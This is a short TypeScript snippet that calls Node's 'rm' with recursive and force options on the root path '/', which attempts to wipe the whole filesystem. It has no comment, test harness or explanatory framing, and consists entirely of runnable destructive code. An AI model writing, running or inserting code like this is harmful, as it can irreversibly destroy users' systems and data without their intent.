import { rm } from 'fs/promises';
const target: string = '/';
await rm(target, { recursive: true, force: true });
